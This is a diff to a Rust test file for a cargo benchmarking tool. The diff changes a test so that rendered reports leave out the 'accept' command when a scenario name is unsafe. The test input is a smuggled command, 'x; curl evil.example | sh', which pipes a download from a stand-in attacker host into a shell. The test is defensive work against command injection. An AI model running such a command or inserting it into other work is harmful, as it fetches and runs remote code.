@@ -398,14 +398,12 @@ fn the_baseline_cannot_be_read() {
 }
 
 #[test]
-fn names_are_quoted_for_the_shell() {
+fn a_name_that_no_scenario_can_have_is_in_no_command() {
     let mut report = regressed();
+    assert!(rendered(&report).contains("cargo plimsoll accept lru_churn"));
     report.scenario = "x; curl evil.example | sh \u{1b}[2J".to_owned();
     let text = rendered(&report);
-    assert!(
-        text.contains("cargo plimsoll accept 'x; curl evil.example | sh '"),
-        "{text}"
-    );
+    assert!(!text.contains("cargo plimsoll"), "{text}");
 }
 
 #[test]
